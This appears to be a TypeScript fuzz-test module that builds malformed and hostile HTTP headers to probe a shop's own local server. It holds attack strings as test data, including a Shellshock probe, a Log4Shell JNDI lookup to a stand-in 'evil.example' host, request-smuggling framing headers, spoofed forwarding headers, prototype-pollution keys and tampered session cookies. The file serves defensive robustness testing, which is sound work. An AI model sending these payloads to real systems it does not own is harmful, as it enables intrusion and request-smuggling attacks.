import type { Header } from './hostileRequest.ts'
import { TEXTS } from './hostileValues.ts'
import type { Random } from './random.ts'

const HOSTS: readonly string[] = [
  'a:99999', 'a:-1', 'a:', ':80', '256.256.256.256', '[::::]', '[::1', '::1', '[::1]:3000', '', ' ', 'a b', 'a/b', 'a?b', 'a#b',
  'a@b', 'a\\b', 'evil.example', 'EVIL.example.', 'xn--a', 'xn--zzzzzz-', 'ñandú.mx', '%00', 'a%2fb', '127.1', '0x7f.1', '1e3',
  '0.0.0.0', 'localhost', '..', '-', '_', 'a'.repeat(256), 'a.'.repeat(200), 'a,b', '<a>', '"', "'", '${a}', 'http://a', 'a:0',
] // prettier-ignore

const ADDRESSES: readonly string[] = [
  '203.0.113.7', '203.0.113.7:80', '::1', '[2001:db8::1]:443', 'fe80::1%eth0', 'unknown', '_hidden', '', ',', ',,,', '999.1.1.1',
  '127.0.0.1', '10.0.0.1, 127.0.0.1', '1.1.1.1, ,2.2.2.2', '::ffff:1.2.3.4', '01.02.03.04', 'a'.repeat(2_000), '1.1.1.1,'.repeat(400),
  '\u00ff', '"1.1.1.1"', '2001:db8::1::2', '%', 'for=1.1.1.1',
] // prettier-ignore

const LENGTHS: readonly string[] = [
  '0',
  '1',
  '5',
  '-1',
  '+5',
  '1e3',
  '0x5',
  ' 5',
  '5 ',
  '5,5',
  '5, 6',
  'abc',
  '',
  '9'.repeat(30),
  '1.5',
  '9007199254740993',
]
const CODINGS: readonly string[] = [
  'chunked', 'Chunked', 'chunked, chunked', 'identity', 'gzip, chunked', 'chunked, gzip', 'xchunked', ' chunked', 'chunked;a=b',
  '', 'chunked\0', 'cow', 'identity, chunked',
] // prettier-ignore

/** Values that the shop's own headers, and those of HTTP, are tried with, beside `TEXTS`. */
const VALUES: Readonly<Record<string, readonly string[]>> = {
  accept: ['*/*', 'application/json', 'text/html', 'multipart/mixed', 'text/event-stream', ';q=1', '*/*;q=0', 'a/b;q=9', ','.repeat(300), 'application/json;q=0.'.repeat(100)],
  'accept-language': ['*', 'es-MX;q=1', 'xx-'.repeat(200), ',,,', 'de;q=abc'],
  'accept-encoding': ['identity', 'identity;q=0', '*;q=0', ',', 'x'.repeat(500)],
  'content-type': ['application/json', 'application/json; charset=utf-16', 'application/json;charset="utf-8', 'text/plain', 'multipart/form-data', 'multipart/form-data; boundary=', 'application/x-www-form-urlencoded', ';', 'application/graphql', 'a'.repeat(3_000)],
  'content-encoding': ['gzip', 'br', 'identity', 'x'],
  origin: ['null', 'https://evil.example', 'http://', 'file://', ''],
  referer: ['https://evil.example/', 'x', 'http://[::'],
  range: ['bytes=0-0', 'bytes=9-1', 'bytes=-1', 'bytes=0-,0-,0-', 'bytes=99999999999999999999-', 'x=1', 'bytes=a-b', `bytes=${'0-0,'.repeat(500)}`],
  'if-none-match': ['*', 'W/"x"', '"', `${'"a",'.repeat(500)}`],
  'if-modified-since': ['x', 'Thu, 01 Jan 1970 00:00:00 GMT', '99999999999999'],
  'x-store': ['hogar', 'viu', 'mavi', 'de', 'it', 'HOGAR', 'none', '__proto__', 'constructor', 'toString'],
  'x-hogar-client': ['web', '', 'x'.repeat(500)],
  'x-api-key': ['x', '__proto__', 'k'.repeat(2_000)],
  authorization: ['Bearer', 'Bearer null', 'Bearer x', 'Basic Og==', 'Bearer Fe26.2**a', `Bearer ${'x'.repeat(5_000)}`, 'bearer  a  b'],
  'x-request-id': ['x', 'x'.repeat(500), '../../a', 'abcdefgh'],
  'x-deadline-ms': ['0', '-1', '1', 'abc', '1e9', '99999999999999999999', 'NaN'],
  'x-storefront-key': ['x', ''],
  traceparent: ['00-0-0-00', 'x', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
  'user-agent': ['', 'Googlebot/2.1', 'x'.repeat(4_000), '() { :; }; echo x', '${jndi:ldap://evil.example/a}'],
  'x-http-method-override': ['DELETE', 'PUT'],
  'x-original-url': ['/admin', '//evil.example'],
  'x-vs-store-code': ['de', '__proto__'],
  'idempotency-key': ['', 'x'.repeat(500), '__proto__'],
  'sec-fetch-site': ['cross-site'],
  'content-length': LENGTHS,
  'transfer-encoding': CODINGS,
  expect: ['100-continue', 'x'],
  connection: ['close', 'keep-alive', 'upgrade', 'close, keep-alive', 'host', 'x'],
  upgrade: ['websocket', 'h2c', 'x'],
} // prettier-ignore
const NAMES = Object.keys(VALUES)

const FORWARDING: readonly Readonly<{ name: string; values: readonly string[] }>[] = [
  { name: 'x-forwarded-for', values: ADDRESSES },
  { name: 'x-forwarded-host', values: HOSTS },
  { name: 'x-forwarded-proto', values: ['https', 'HTTPS', 'javascript', '', 'https,http', 'a b'] },
  { name: 'x-forwarded-port', values: ['99999', 'x'] },
  { name: 'x-real-ip', values: ADDRESSES },
  { name: 'forwarded', values: ['for=1.1.1.1;host=evil.example;proto=x', 'for="', ';'.repeat(500)] },
  { name: 'via', values: ['1.1 evil'] },
]

export type HeaderOptions = Readonly<{
  port: number
  /** Cookies of sessions that are good: some requests bring one, some what is left of one. */
  cookies: readonly string[]
}>

/** A host, now and then a bad one, none or two, and some other headers with values that they should not have. */
export function hostileHeaders(random: Random, { port, cookies }: HeaderOptions): readonly Header[] {
  const own: Header = ['host', `127.0.0.1:${port}`]
  const hosts: readonly Header[] = random.chance(0.85)
    ? [own]
    : random.pick([[['host', random.pick(HOSTS)]], [], [own, own], [own, ['Host', random.pick(HOSTS)]]] as Header[][])
  const forwarding = random.chance(0.3) ? random.some(FORWARDING, 0.3) : []
  const framing = random.chance(0.9)
  const others = random.chance(0.5) ? random.some(NAMES, 0.12).filter((name) => !framing || !FRAMING.has(name)) : []
  return [
    ...hosts,
    ...forwarding.map(({ name, values }): Header => [name, random.pick(values)]),
    ...others.map((name): Header => [name, random.pick(random.chance(0.7) ? (VALUES[name] ?? TEXTS) : TEXTS)]),
    ...(random.chance(0.5) ? cookieHeaders(random, cookies) : []),
    ...(random.chance(0.01) ? [['x-big', 'x'.repeat(random.below(40_000))] as const] : []),
    ...(random.chance(0.01) ? Array.from({ length: random.below(1_500) }, (_, at) => [`x-${at}`, 'a'] as const) : []),
  ]
}

const FRAMING: ReadonlySet<string> = new Set(['content-length', 'transfer-encoding', 'expect', 'connection', 'upgrade'])

function cookieHeaders(random: Random, cookies: readonly string[]): readonly Header[] {
  if (random.chance(0.5)) return [['cookie', random.pick(cookies)]]
  const [name = '', seal = ''] = random.pick(cookies).split('=', 2)
  const at = random.below(seal.length)
  const values = [
    seal.slice(0, at),
    `${seal.slice(0, at)}x${seal.slice(at + 1)}`,
    `${seal}${seal}`,
    seal.replaceAll('*', random.pick(['', '**', '%2A', '%zz'])),
    seal.replace('Fe26.2', 'Fe26.1'),
    `"${seal}"`,
    random.pick(TEXTS),
    'x'.repeat(random.below(9_000)),
    '%E0%A4%A',
  ]
  const pair = () =>
    `${random.chance(0.8) ? name : random.pick(['', '__proto__', 'a', 'hogar_session_', `${name} `])}=${random.pick(values)}`
  const cookie = Array.from({ length: 1 + random.below(random.chance(0.1) ? 100 : 3) }, pair).join(
    random.pick(['; ', ';', ',', ' ']),
  )
  return random.chance(0.9) ? [['cookie', cookie]] : [['cookie', cookie], ['Cookie', pair()]] // prettier-ignore
}
